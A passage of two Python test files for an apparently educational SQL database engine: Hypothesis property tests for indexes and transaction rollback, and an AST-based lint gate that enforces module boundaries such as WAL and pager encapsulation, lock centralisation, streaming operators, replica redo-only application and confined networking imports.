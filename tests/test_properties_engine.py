"""Property-based tests on the engine subsystems added on top of the
paper's core: indexes (plan-invariance) and transactions (rollback is
the identity)."""

import string

from hypothesis import given, settings, strategies as st

from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

names = st.text(alphabet=string.ascii_lowercase, min_size=1, max_size=8)
balances = st.integers(min_value=0, max_value=10**6)
rows_strategy = st.lists(
    st.tuples(names, balances), min_size=1, max_size=12
)


def _make_db(rows):
    database = Database()
    database.seed(
        "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, "
        "name VARCHAR(20), val INT);"
    )
    conn = Connection(database)
    for name, value in rows:
        conn.query_or_raise(
            "INSERT INTO t (name, val) VALUES ('%s', %d)" % (name, value)
        )
    return database, conn


@settings(max_examples=40, deadline=None)
@given(rows_strategy, names)
def test_index_is_plan_invariant(rows, needle):
    """The same query returns identical rows with and without an index —
    the index only changes the access path (verified via EXPLAIN)."""
    database, conn = _make_db(rows)
    query = "SELECT id, val FROM t WHERE name = '%s' ORDER BY id" % needle
    without = conn.query_or_raise(query).result_set.rows
    conn.query_or_raise("CREATE INDEX idx_name ON t (name)")
    plan = conn.query_or_raise("EXPLAIN " + query).result_set.rows
    assert plan[0][1] == "ref"
    with_index = conn.query_or_raise(query).result_set.rows
    assert with_index == without


@settings(max_examples=40, deadline=None)
@given(rows_strategy, balances)
def test_rollback_is_identity(rows, new_value):
    """BEGIN, arbitrary writes, ROLLBACK leaves the table exactly as it
    was (rows and auto-increment counter)."""
    database, conn = _make_db(rows)
    table = database.table("t")
    before_rows = [dict(row) for row in table.rows]
    before_auto = table._auto_counter
    conn.query_or_raise("BEGIN")
    conn.query_or_raise("UPDATE t SET val = %d" % new_value)
    conn.query_or_raise("DELETE FROM t WHERE MOD(val, 2) = 0")
    conn.query_or_raise("INSERT INTO t (name, val) VALUES ('ghost', 1)")
    conn.query_or_raise("ROLLBACK")
    assert table.rows == before_rows
    assert table._auto_counter == before_auto


@settings(max_examples=40, deadline=None)
@given(rows_strategy)
def test_commit_then_rollback_keeps_committed_state(rows):
    database, conn = _make_db(rows)
    conn.query_or_raise("BEGIN")
    conn.query_or_raise("UPDATE t SET val = 7")
    conn.query_or_raise("COMMIT")
    committed = [dict(row) for row in database.table("t").rows]
    conn.query_or_raise("ROLLBACK")  # no tx open: must be a no-op
    assert database.table("t").rows == committed


@settings(max_examples=30, deadline=None)
@given(rows_strategy, names)
def test_index_lookup_matches_scan_semantics(rows, needle):
    """Table.index_lookup agrees with a manual comparison-based scan
    (case-insensitive string equality, like the engine's '=')."""
    from repro.sqldb.types import compare

    database, _ = _make_db(rows)
    table = database.table("t")
    via_index = {id(row) for row in table.index_lookup("name", needle)}
    via_scan = {
        id(row) for row in table.rows
        if row["name"] is not None and compare(row["name"], needle) == 0
    }
    assert via_index == via_scan
