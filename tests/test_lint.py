"""Lint gate for the tier-1 flow.

Two checks over every Python file in ``src/`` (and the test/benchmark
trees for the byte-compile pass):

* **byte-compilation** — ``compileall`` catches syntax errors anywhere,
  including files no test imports;
* **undefined names** — a conservative pyflakes-style pass (the real
  pyflakes is not vendored): collect every name a module could possibly
  bind — imports, assignments, function/class defs, comprehension and
  exception targets, globals of the whole file — and flag any ``Name``
  load that matches none of them and is not a builtin.  Scope-blind by
  design, so it only reports names that cannot resolve *anywhere* in
  the file: real typos, never false positives.
"""

import ast
import builtins
import compileall
import os
import sys

import pytest

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
SRC_ROOT = os.path.join(REPO_ROOT, "src")

_BUILTINS = set(dir(builtins)) | {"__file__", "__name__", "__doc__",
                                  "__package__", "__spec__", "__loader__",
                                  "__builtins__", "__debug__"}


def _python_files(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames
                       if d not in ("__pycache__", ".git", "out")]
        for filename in sorted(filenames):
            if filename.endswith(".py"):
                yield os.path.join(dirpath, filename)


def _bound_names(tree):
    """Every name the module could bind, in any scope."""
    bound = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Name) and isinstance(
                node.ctx, (ast.Store, ast.Del)):
            bound.add(node.id)
        elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef,
                               ast.ClassDef)):
            bound.add(node.name)
        elif isinstance(node, (ast.Import, ast.ImportFrom)):
            for alias in node.names:
                name = alias.asname or alias.name
                bound.add(name.split(".")[0])
        elif isinstance(node, ast.arg):
            bound.add(node.arg)
        elif isinstance(node, ast.ExceptHandler) and node.name:
            bound.add(node.name)
        elif isinstance(node, ast.Lambda):
            pass  # its args are ast.arg nodes, already collected
    return bound


def _undefined_loads(path):
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    bound = _bound_names(tree)
    problems = []
    for node in ast.walk(tree):
        if (isinstance(node, ast.Name) and isinstance(node.ctx, ast.Load)
                and node.id not in bound and node.id not in _BUILTINS):
            problems.append("%s:%d: undefined name %r"
                            % (os.path.relpath(path, REPO_ROOT),
                               node.lineno, node.id))
    return problems


def test_src_byte_compiles():
    ok = compileall.compile_dir(SRC_ROOT, maxlevels=20, quiet=2,
                                force=False)
    assert ok, "compileall found syntax errors under src/ (rerun with " \
               "`python -m compileall src` for details)"


@pytest.mark.parametrize("tree_name", ["tests", "benchmarks", "examples"])
def test_support_trees_byte_compile(tree_name):
    root = os.path.join(REPO_ROOT, tree_name)
    if not os.path.isdir(root):
        pytest.skip("no %s/ tree" % tree_name)
    ok = compileall.compile_dir(root, maxlevels=20, quiet=2, force=False)
    assert ok, "compileall found syntax errors under %s/" % tree_name


def test_src_has_no_undefined_names():
    problems = []
    for path in _python_files(SRC_ROOT):
        problems.extend(_undefined_loads(path))
    assert problems == [], "\n".join(problems)


def test_lint_gate_catches_a_typo(tmp_path):
    """The undefined-name pass must actually detect a misspelling."""
    bad = tmp_path / "bad.py"
    bad.write_text("def f(value):\n    return vlaue + 1\n")
    problems = _undefined_loads(str(bad))
    assert len(problems) == 1
    assert "vlaue" in problems[0]


def test_python_version_supported():
    # the engine relies on dict ordering and OrderedDict.move_to_end
    assert sys.version_info >= (3, 7)


def _fire_site_literals():
    """Every literal site name passed to a ``fire(...)`` call in src/."""
    sites = []
    for path in _python_files(SRC_ROOT):
        with open(path) as handle:
            tree = ast.parse(handle.read(), filename=path)
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            name = getattr(func, "attr", None) or getattr(func, "id", None)
            if name != "fire" or not node.args:
                continue
            first = node.args[0]
            if isinstance(first, ast.Constant) and isinstance(
                    first.value, str):
                sites.append(first.value)
            elif (isinstance(first, ast.BinOp)
                  and isinstance(first.left, ast.Constant)):
                sites.append(first.left.value + "<dynamic>")
    return sites


#: on-disk names of the durability files — only wal.py may know them
_WAL_FILE_LITERALS = ("wal.log", "checkpoint.json")
#: path helpers whose results must never feed a raw ``open()``
_WAL_PATH_HELPERS = ("log_path", "checkpoint_path", "qm_store_path")


def _wal_access_violations(path):
    """WAL encapsulation check for one file: no literal WAL/checkpoint
    file names, and no ``open()`` over the wal module's path helpers.
    Everything durable must go through :mod:`repro.sqldb.wal`'s API, so
    framing, CRC and fsync discipline cannot be bypassed piecemeal."""
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    rel = os.path.relpath(path, REPO_ROOT)
    problems = []
    for node in ast.walk(tree):
        if (isinstance(node, ast.Constant)
                and isinstance(node.value, str)
                and node.value in _WAL_FILE_LITERALS):
            problems.append(
                "%s:%d: literal %r — only repro/sqldb/wal.py may name "
                "WAL/checkpoint files" % (rel, node.lineno, node.value)
            )
        if not isinstance(node, ast.Call):
            continue
        name = getattr(node.func, "attr", None) or getattr(
            node.func, "id", None)
        if name != "open":
            continue
        for arg in node.args:
            for inner in ast.walk(arg):
                if not isinstance(inner, ast.Call):
                    continue
                helper = getattr(inner.func, "attr", None) or getattr(
                    inner.func, "id", None)
                if helper in _WAL_PATH_HELPERS:
                    problems.append(
                        "%s:%d: open(%s(...)) — WAL/checkpoint files may "
                        "only be opened inside repro/sqldb/wal.py"
                        % (rel, node.lineno, helper)
                    )
    return problems


def test_wal_files_only_touched_by_wal_module():
    wal_py = os.path.abspath(
        os.path.join(SRC_ROOT, "repro", "sqldb", "wal.py"))
    problems = []
    for path in _python_files(SRC_ROOT):
        if os.path.abspath(path) == wal_py:
            continue
        problems.extend(_wal_access_violations(path))
    assert problems == [], "\n".join(problems)


def test_wal_access_gate_catches_violations(tmp_path):
    """The encapsulation check must actually detect both bypass shapes."""
    bad = tmp_path / "bad.py"
    bad.write_text(
        "from repro.sqldb import wal\n"
        "def peek(data_dir):\n"
        "    with open(wal.log_path(data_dir), 'rb') as handle:\n"
        "        return handle.read()\n"
        "NAME = 'wal.log'\n"
    )
    problems = _wal_access_violations(str(bad))
    assert len(problems) == 2
    assert any("open(log_path(...))" in p for p in problems)
    assert any("literal 'wal.log'" in p for p in problems)


#: on-disk names of the paged-storage files — only pager.py may know
#: them; everything else goes through the Pager/PageStore API so page
#: framing, CRC and the doublewrite protocol cannot be bypassed
_PAGE_FILE_LITERALS = ("pages.db", "doublewrite.db", "spill.db")
#: pager path helpers whose results must never feed a raw ``open()``
_PAGE_PATH_HELPERS = ("pages_path", "doublewrite_path", "spill_path")


def _page_access_violations(path):
    """Paged-storage encapsulation check, same shape as the WAL gate:
    no literal page-file names and no ``open()`` over pager.py's path
    helpers anywhere outside pager.py."""
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    rel = os.path.relpath(path, REPO_ROOT)
    problems = []
    for node in ast.walk(tree):
        if (isinstance(node, ast.Constant)
                and isinstance(node.value, str)
                and node.value in _PAGE_FILE_LITERALS):
            problems.append(
                "%s:%d: literal %r — only repro/sqldb/pager.py may name "
                "page-storage files" % (rel, node.lineno, node.value)
            )
        if not isinstance(node, ast.Call):
            continue
        name = getattr(node.func, "attr", None) or getattr(
            node.func, "id", None)
        if name != "open":
            continue
        for arg in node.args:
            for inner in ast.walk(arg):
                if not isinstance(inner, ast.Call):
                    continue
                helper = getattr(inner.func, "attr", None) or getattr(
                    inner.func, "id", None)
                if helper in _PAGE_PATH_HELPERS:
                    problems.append(
                        "%s:%d: open(%s(...)) — page-storage files may "
                        "only be opened inside repro/sqldb/pager.py"
                        % (rel, node.lineno, helper)
                    )
    return problems


def test_page_files_only_touched_by_pager_module():
    pager_py = os.path.abspath(
        os.path.join(SRC_ROOT, "repro", "sqldb", "pager.py"))
    problems = []
    for path in _python_files(SRC_ROOT):
        if os.path.abspath(path) == pager_py:
            continue
        problems.extend(_page_access_violations(path))
    assert problems == [], "\n".join(problems)


def test_page_access_gate_catches_violations(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text(
        "from repro.sqldb import pager\n"
        "def peek(data_dir):\n"
        "    with open(pager.pages_path(data_dir), 'rb') as handle:\n"
        "        return handle.read()\n"
        "NAME = 'doublewrite.db'\n"
    )
    problems = _page_access_violations(str(bad))
    assert len(problems) == 2
    assert any("open(pages_path(...))" in p for p in problems)
    assert any("literal 'doublewrite.db'" in p for p in problems)


def test_fault_sites_are_lint_covered():
    """The faults package rides the same gates as everything else, and
    the wired injection sites agree with the declared KNOWN_SITES."""
    faults_root = os.path.join(SRC_ROOT, "repro", "faults")
    files = list(_python_files(faults_root))
    assert files, "faults package missing from src/repro/faults"
    for path in files:
        assert _undefined_loads(path) == []

    from repro.faults import KNOWN_SITES

    wired = set(_fire_site_literals())
    declared = set(KNOWN_SITES)
    # every declared site is wired somewhere in src/ (the plugin site is
    # composed dynamically: "plugin." + plugin.name)
    missing = declared - wired
    assert missing == set(), "declared but unwired sites: %s" % missing
    # and nothing fires an undeclared site behind the plan's back
    undeclared = {
        site for site in wired
        if site not in declared and not site.startswith("plugin.")
    }
    assert undeclared == set(), "undeclared fire() sites: %s" % undeclared


#: the only modules allowed to construct raw threading locks — everyone
#: else must go through repro.core.resilience's make_lock()/make_rlock()
#: factories (or the RWLock), so lock creation stays auditable
_LOCK_ALLOWLIST = (
    os.path.join("src", "repro", "sqldb", "engine.py"),
    os.path.join("src", "repro", "core", "resilience.py"),
    os.path.join("src", "repro", "core", "store.py"),
)


def _lock_construction_violations(path):
    """Raw ``threading.Lock()`` / ``threading.RLock()`` constructions."""
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    rel = os.path.relpath(path, REPO_ROOT)
    problems = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        if (isinstance(func, ast.Attribute)
                and func.attr in ("Lock", "RLock")
                and isinstance(func.value, ast.Name)
                and func.value.id == "threading"):
            problems.append(
                "%s:%d: threading.%s() constructed directly — use "
                "repro.core.resilience.make_lock()/make_rlock() (or "
                "RWLock) instead" % (rel, node.lineno, func.attr)
            )
    return problems


def test_lock_construction_is_centralized():
    allow = {os.path.abspath(os.path.join(REPO_ROOT, rel))
             for rel in _LOCK_ALLOWLIST}
    problems = []
    for path in _python_files(SRC_ROOT):
        if os.path.abspath(path) in allow:
            continue
        problems.extend(_lock_construction_violations(path))
    assert problems == [], "\n".join(problems)


def test_lock_gate_catches_a_raw_lock(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import threading\n"
        "A = threading.Lock()\n"
        "B = threading.RLock()\n"
    )
    problems = _lock_construction_violations(str(bad))
    assert len(problems) == 2
    assert any("threading.Lock()" in p for p in problems)
    assert any("threading.RLock()" in p for p in problems)


def _class_def(tree, name):
    for node in ast.walk(tree):
        if isinstance(node, ast.ClassDef) and node.name == name:
            return node
    return None


def _topk_sort_violations(plan_path, planner_path):
    """ORDER BY + LIMIT must go through the heap top-k, not a full sort.

    Checks three facts about the plan layer: the ``TopK`` operator
    exists in plan.py, it never calls ``sorted()`` over its input (the
    bounded heap is the point), and the planner's ORDER BY + LIMIT
    branch actually constructs it.
    """
    with open(plan_path) as handle:
        plan_tree = ast.parse(handle.read(), filename=plan_path)
    rel_plan = os.path.relpath(plan_path, REPO_ROOT)
    problems = []
    topk = _class_def(plan_tree, "TopK")
    if topk is None:
        return ["%s: no TopK operator — ORDER BY + LIMIT has no "
                "top-k path" % rel_plan]
    for node in ast.walk(topk):
        if (isinstance(node, ast.Call)
                and isinstance(node.func, ast.Name)
                and node.func.id == "sorted"):
            problems.append(
                "%s:%d: sorted() inside TopK — the top-k path "
                "must use a bounded heap, not a full sort"
                % (rel_plan, node.lineno)
            )
    with open(planner_path) as handle:
        planner_tree = ast.parse(handle.read(), filename=planner_path)
    rel_planner = os.path.relpath(planner_path, REPO_ROOT)
    constructs_topk = any(
        isinstance(node, ast.Call)
        and (getattr(node.func, "attr", None) == "TopK"
             or getattr(node.func, "id", None) == "TopK")
        for node in ast.walk(planner_tree)
    )
    if not constructs_topk:
        problems.append(
            "%s: the planner never constructs TopK — LIMIT "
            "queries fall back to the full sort" % rel_planner
        )
    return problems


def test_order_limit_uses_topk_heap():
    plan_py = os.path.join(SRC_ROOT, "repro", "sqldb", "plan.py")
    planner_py = os.path.join(SRC_ROOT, "repro", "sqldb", "planner.py")
    problems = _topk_sort_violations(plan_py, planner_py)
    assert problems == [], "\n".join(problems)


def test_topk_gate_catches_a_full_sort(tmp_path):
    bad_plan = tmp_path / "plan.py"
    bad_plan.write_text(
        "class TopK:\n"
        "    def _generate(self, state):\n"
        "        return sorted(self.pairs)[:self.k]\n"
    )
    good_planner = tmp_path / "planner.py"
    good_planner.write_text(
        "def plan(node):\n"
        "    return TopK(node)\n"
    )
    problems = _topk_sort_violations(str(bad_plan), str(good_planner))
    assert len(problems) == 1
    assert "sorted() inside TopK" in problems[0]


#: plan.py operators allowed to buffer their input — blocking by
#: algorithm (a join's inner side, grouping, sorting, top-k, union
#: merge) or by mutation discipline (the DML sinks fix their targets
#: before the first write).  Everything else must stream.
_BLOCKING_OPERATORS = frozenset([
    "NestedLoopJoin", "HashJoin", "Aggregate", "Sort", "TopK", "Union",
    "InsertSink", "UpdateSink", "DeleteSink",
    # gather-side blockers: partial-aggregate merge buffers its groups,
    # merge-topk keeps the bounded heap (GatherUnion and ShardScan are
    # deliberately NOT here — they must stream)
    "GatherAggregate", "GatherTopK",
])


def _streaming_violations(path, allowlist=_BLOCKING_OPERATORS):
    """The streaming gate: inside plan.py, only the blocking operator
    classes may call ``list()`` / ``sorted()`` (i.e. materialize an
    upstream iterator).  A ``list()`` creeping into SeqScan or Limit is
    how the O(limit) memory property rots silently."""
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    rel = os.path.relpath(path, REPO_ROOT)
    problems = []
    for node in tree.body:
        if not isinstance(node, ast.ClassDef):
            continue
        bases = {getattr(base, "id", None) for base in node.bases}
        if "PlanNode" not in bases or node.name in allowlist:
            continue
        # only the runtime row paths matter — plan-time __init__ may
        # copy its spec lists freely
        row_paths = [item for item in node.body
                     if isinstance(item, ast.FunctionDef)
                     and item.name in ("_generate", "run")]
        for inner in [n for fn in row_paths for n in ast.walk(fn)]:
            if (isinstance(inner, ast.Call)
                    and isinstance(inner.func, ast.Name)
                    and inner.func.id in ("list", "sorted")):
                problems.append(
                    "%s:%d: %s() inside streaming operator %s — only "
                    "blocking operators (%s) may materialize their input"
                    % (rel, inner.lineno, inner.func.id, node.name,
                       ", ".join(sorted(allowlist)))
                )
    return problems


def test_streaming_operators_never_materialize():
    plan_py = os.path.join(SRC_ROOT, "repro", "sqldb", "plan.py")
    problems = _streaming_violations(plan_py)
    assert problems == [], "\n".join(problems)


#: local names that hold *stored* row dicts in the execution layer —
#: writing through them would bypass the MVCC version chain
_STORED_ROW_NAMES = frozenset(["row", "stored", "target"])


def _row_mutation_violations(path):
    """MVCC mutation-discipline gate for the execution layer.

    Stored rows are immutable once installed: every change must go
    through :class:`repro.sqldb.storage.Table`'s version-chain API
    (``update_row`` / ``delete_rows`` / ``insert``), which stamps
    visibility metadata and runs the first-writer-wins check.  A direct
    ``somedict.update(...)`` call or an in-place write through a
    stored-row local (``row[...] = v``, ``del stored[...]``,
    ``target[...] += v``) in plan.py/executor.py is exactly the bug
    class this PR removed — mutating the live dict tears every open
    snapshot that shares it.
    """
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    rel = os.path.relpath(path, REPO_ROOT)
    problems = []
    for node in ast.walk(tree):
        if (isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "update"):
            problems.append(
                "%s:%d: .update(...) call — stored rows are immutable; "
                "go through Table.update_row() so the version chain and "
                "conflict check apply" % (rel, node.lineno)
            )
        if (isinstance(node, ast.Subscript)
                and isinstance(node.ctx, (ast.Store, ast.Del))
                and isinstance(node.value, ast.Name)
                and node.value.id in _STORED_ROW_NAMES):
            problems.append(
                "%s:%d: in-place write through %r — stored rows are "
                "immutable; install a new version via Table.update_row()"
                % (rel, node.lineno, node.value.id)
            )
    return problems


def test_execution_layer_never_mutates_stored_rows():
    for module in ("plan.py", "executor.py"):
        path = os.path.join(SRC_ROOT, "repro", "sqldb", module)
        problems = _row_mutation_violations(path)
        assert problems == [], "\n".join(problems)


def test_row_mutation_gate_catches_violations(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text(
        "def apply(row, updates):\n"
        "    row.update(updates)\n"
        "def patch(stored, col, value):\n"
        "    stored[col] = value\n"
        "def scrub(target, col):\n"
        "    del target[col]\n"
        "def fine(env, col, value):\n"
        "    env[col] = value\n"
    )
    problems = _row_mutation_violations(str(bad))
    assert len(problems) == 3
    assert any(".update(...)" in p for p in problems)
    assert any("'stored'" in p for p in problems)
    assert any("'target'" in p for p in problems)


def test_streaming_gate_catches_a_buffered_operator(tmp_path):
    bad = tmp_path / "plan.py"
    bad.write_text(
        "class PlanNode:\n"
        "    pass\n"
        "class Sort(PlanNode):\n"
        "    def _generate(self, state):\n"
        "        return sorted(self.rows)\n"      # allowlisted: fine
        "class Limit(PlanNode):\n"
        "    def _generate(self, state):\n"
        "        return list(self.rows)[:3]\n"    # streaming: flagged
    )
    problems = _streaming_violations(str(bad))
    assert len(problems) == 1
    assert "list() inside streaming operator Limit" in problems[0]

REPLICA_ROOT = os.path.join(SRC_ROOT, "repro", "replica")

#: the engine's public execution entry points — a replica applier that
#: calls any of these is mutating outside the redo path
_EXEC_ENTRY_POINTS = frozenset([
    "run", "run_partial", "run_statement", "run_script", "seed",
    "query", "query_or_raise", "multi_query",
    "execute", "execute_prepared", "executemany",
])


def _replica_apply_violations(path):
    """Calls in replica apply-side code that mutate the database through
    anything but the redo path (``redo_apply`` / ``note_applied_lsn``)."""
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    problems = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = None
        if isinstance(func, ast.Attribute):
            name = func.attr
        elif isinstance(func, ast.Name):
            name = func.id
        if name in _EXEC_ENTRY_POINTS:
            problems.append(
                "%s:%d: replica apply code calls %s() — state must only "
                "change through the redo path"
                % (os.path.relpath(path, REPO_ROOT), node.lineno, name))
    return problems


def test_replica_apply_is_redo_only():
    """Everything under ``src/repro/replica/`` except the client-facing
    router applies state exclusively through ``Database.redo_apply`` —
    never the public DML/executor path (which would re-run SEPTIC,
    re-draw the RNG, and diverge from the primary)."""
    problems = []
    for path in _python_files(REPLICA_ROOT):
        if os.path.basename(path) == "router.py":
            continue  # the router IS a client; it queries by design
        problems.extend(_replica_apply_violations(path))
    assert problems == [], "\n".join(problems)


def test_replica_redo_gate_catches_a_query(tmp_path):
    bad = tmp_path / "bad_apply.py"
    bad.write_text(
        "def apply(db, rec):\n"
        "    db.run(rec.sql)\n"
    )
    problems = _replica_apply_violations(str(bad))
    assert len(problems) == 1
    assert "run()" in problems[0]


_WALL_CLOCK_MODULES = frozenset(["time", "datetime"])
_WALL_CLOCK_CALLS = frozenset(["sleep", "perf_counter", "monotonic",
                               "time_ns", "now", "utcnow"])


def _wall_clock_violations(path):
    """Wall-clock reads or sleeps: replication runs on the coordinator's
    virtual tick clock, so failovers replay deterministically."""
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    problems = []
    rel = os.path.relpath(path, REPO_ROOT)
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in _WALL_CLOCK_MODULES:
                    problems.append("%s:%d: imports %s"
                                    % (rel, node.lineno, alias.name))
        elif isinstance(node, ast.ImportFrom):
            if node.module and node.module.split(".")[0] in \
                    _WALL_CLOCK_MODULES:
                problems.append("%s:%d: imports from %s"
                                % (rel, node.lineno, node.module))
        elif isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else (
                func.id if isinstance(func, ast.Name) else None)
            if name in _WALL_CLOCK_CALLS:
                problems.append("%s:%d: calls %s()"
                                % (rel, node.lineno, name))
    return problems


def test_replica_subsystem_never_reads_the_wall_clock():
    problems = []
    for path in _python_files(REPLICA_ROOT):
        problems.extend(_wall_clock_violations(path))
    assert problems == [], "\n".join(problems)


def test_pager_and_btree_never_read_the_wall_clock():
    """The scrubber runs on explicit virtual ticks and the pager's
    retry backoff on the resilience hook clock — wall-clock reads in
    either would make crash/corruption sweeps non-deterministic."""
    problems = []
    for module in ("pager.py", "btree.py"):
        path = os.path.join(SRC_ROOT, "repro", "sqldb", module)
        problems.extend(_wall_clock_violations(path))
    assert problems == [], "\n".join(problems)


def test_wall_clock_gate_catches_a_sleep(tmp_path):
    bad = tmp_path / "bad_clock.py"
    bad.write_text(
        "import time\n"
        "def wait():\n"
        "    time.sleep(0.1)\n"
    )
    problems = _wall_clock_violations(str(bad))
    assert len(problems) == 2
    assert "imports time" in problems[0]
    assert "sleep()" in problems[1]


NET_ROOT = os.path.join(SRC_ROOT, "repro", "net")

_NET_MODULES = frozenset(["socket", "asyncio", "selectors"])


def _net_import_violations(path):
    """Raw networking imports: sockets and the event loop live only in
    ``repro.net`` — everything else goes through NetClient/NetServer,
    so the wire protocol (and its fault sites) cannot be bypassed."""
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    problems = []
    rel = os.path.relpath(path, REPO_ROOT)
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in _NET_MODULES:
                    problems.append("%s:%d: imports %s"
                                    % (rel, node.lineno, alias.name))
        elif isinstance(node, ast.ImportFrom):
            if node.module and node.module.split(".")[0] in _NET_MODULES:
                problems.append("%s:%d: imports from %s"
                                % (rel, node.lineno, node.module))
    return problems


def test_raw_networking_is_confined_to_net_package():
    problems = []
    for path in _python_files(SRC_ROOT):
        if path.startswith(NET_ROOT + os.sep):
            continue
        problems.extend(_net_import_violations(path))
    assert problems == [], "\n".join(problems)


def test_net_import_gate_catches_a_stray_socket(tmp_path):
    bad = tmp_path / "bad_net.py"
    bad.write_text(
        "import socket\n"
        "from asyncio import get_event_loop\n"
    )
    problems = _net_import_violations(str(bad))
    assert len(problems) == 2
    assert "imports socket" in problems[0]
    assert "imports from asyncio" in problems[1]


_BLOCKING_IN_COROUTINE = frozenset(["time.sleep", "os.fsync", "open"])


def _async_blocking_violations(path):
    """Blocking calls inside coroutine bodies: the event loop serves
    every connection, so one blocking call stalls them all.  Blocking
    work (engine execution, fsync) must hop to the executor instead."""
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    problems = []
    rel = os.path.relpath(path, REPO_ROOT)
    for func in ast.walk(tree):
        if not isinstance(func, ast.AsyncFunctionDef):
            continue
        for node in ast.walk(func):
            if not isinstance(node, ast.Call):
                continue
            target = node.func
            if isinstance(target, ast.Attribute) and \
                    isinstance(target.value, ast.Name):
                name = "%s.%s" % (target.value.id, target.attr)
            elif isinstance(target, ast.Name):
                name = target.id
            else:
                continue
            if name in _BLOCKING_IN_COROUTINE:
                problems.append("%s:%d: %s() inside coroutine %s"
                                % (rel, node.lineno, name, func.name))
    return problems


def test_net_coroutines_never_block():
    problems = []
    for path in _python_files(NET_ROOT):
        problems.extend(_async_blocking_violations(path))
    assert problems == [], "\n".join(problems)


def test_async_blocking_gate_catches_a_sleep(tmp_path):
    bad = tmp_path / "bad_async.py"
    bad.write_text(
        "import asyncio\n"
        "import time\n"
        "async def handler():\n"
        "    time.sleep(0.1)\n"
        "    data = open('x').read()\n"
        "    await asyncio.sleep(0)\n"
        "def sync_path():\n"
        "    time.sleep(0.1)\n"
    )
    problems = _async_blocking_violations(str(bad))
    assert len(problems) == 2
    assert "time.sleep() inside coroutine handler" in problems[0]
    assert "open() inside coroutine handler" in problems[1]


def test_netlab_never_reads_the_wall_clock():
    """NetLab's pipelining model runs purely on the Simulator's virtual
    clock — a wall-clock read would make its speedup load-dependent."""
    path = os.path.join(SRC_ROOT, "repro", "benchlab", "netlab.py")
    problems = _wall_clock_violations(path)
    assert problems == [], "\n".join(problems)


SHARD_ROOT = os.path.join(SRC_ROOT, "repro", "shard")

#: modules/calls that implement (or smell like) hash partitioning —
#: confined to ``repro.shard.catalog`` by the gate below
_HASH_MODULES = frozenset(["zlib", "hashlib", "binascii"])
_SHARD_CALLS = frozenset(["crc32", "shard_of", "shard_for"])


def _shard_hash_violations(path):
    """Shard-selection arithmetic outside ``shard/``: the planner
    classifies statements and extracts key *values*, the router asks the
    catalog for the ordinal — neither may hash a key or do modulo math
    over anything shard-named.  One swappable, auditable partitioning
    function, in one module."""
    with open(path) as handle:
        tree = ast.parse(handle.read(), filename=path)
    rel = os.path.relpath(path, REPO_ROOT)
    problems = []

    def names_in(node):
        for sub in ast.walk(node):
            if isinstance(sub, ast.Name):
                yield sub.id
            elif isinstance(sub, ast.Attribute):
                yield sub.attr

    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in _HASH_MODULES:
                    problems.append(
                        "%s:%d: imports %s — partition hashing lives in "
                        "repro.shard.catalog only"
                        % (rel, node.lineno, alias.name))
        elif isinstance(node, ast.ImportFrom):
            if node.module and node.module.split(".")[0] in _HASH_MODULES:
                problems.append(
                    "%s:%d: imports from %s — partition hashing lives "
                    "in repro.shard.catalog only"
                    % (rel, node.lineno, node.module))
        elif isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else (
                func.id if isinstance(func, ast.Name) else None)
            # asking the catalog (x.catalog.shard_for(...)) is the
            # sanctioned path; computing it any other way is not
            through_catalog = (
                isinstance(func, ast.Attribute)
                and "catalog" in set(names_in(func.value))
            )
            if name in _SHARD_CALLS and not through_catalog:
                problems.append(
                    "%s:%d: calls %s() — ask the ShardCatalog, don't "
                    "partition locally" % (rel, node.lineno, name))
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
            if (isinstance(node.left, ast.Constant)
                    and isinstance(node.left.value, str)):
                continue  # %-style string formatting, not arithmetic
            involved = set(names_in(node.left)) | set(names_in(node.right))
            if any("shard" in name.lower() for name in involved):
                problems.append(
                    "%s:%d: modulo arithmetic over %s — shard placement "
                    "is the catalog's call"
                    % (rel, node.lineno,
                       sorted(n for n in involved
                              if "shard" in n.lower())))
    return problems


def test_shard_selection_is_confined_to_the_catalog():
    """The planner/executor/plan layers never compute a shard: they
    carry key values and ordinals the catalog handed out."""
    problems = []
    for module in ("planner.py", "executor.py", "plan.py"):
        path = os.path.join(SRC_ROOT, "repro", "sqldb", module)
        problems.extend(_shard_hash_violations(path))
    # the router orchestrates but still must not hash
    problems.extend(_shard_hash_violations(
        os.path.join(SHARD_ROOT, "router.py")))
    assert problems == [], "\n".join(problems)


def test_shard_hash_gate_catches_local_partitioning(tmp_path):
    bad = tmp_path / "bad_route.py"
    bad.write_text(
        "import zlib\n"
        "def place(key, shard_count):\n"
        "    ordinal = zlib.crc32(key) % shard_count\n"
        "    return ordinal\n"
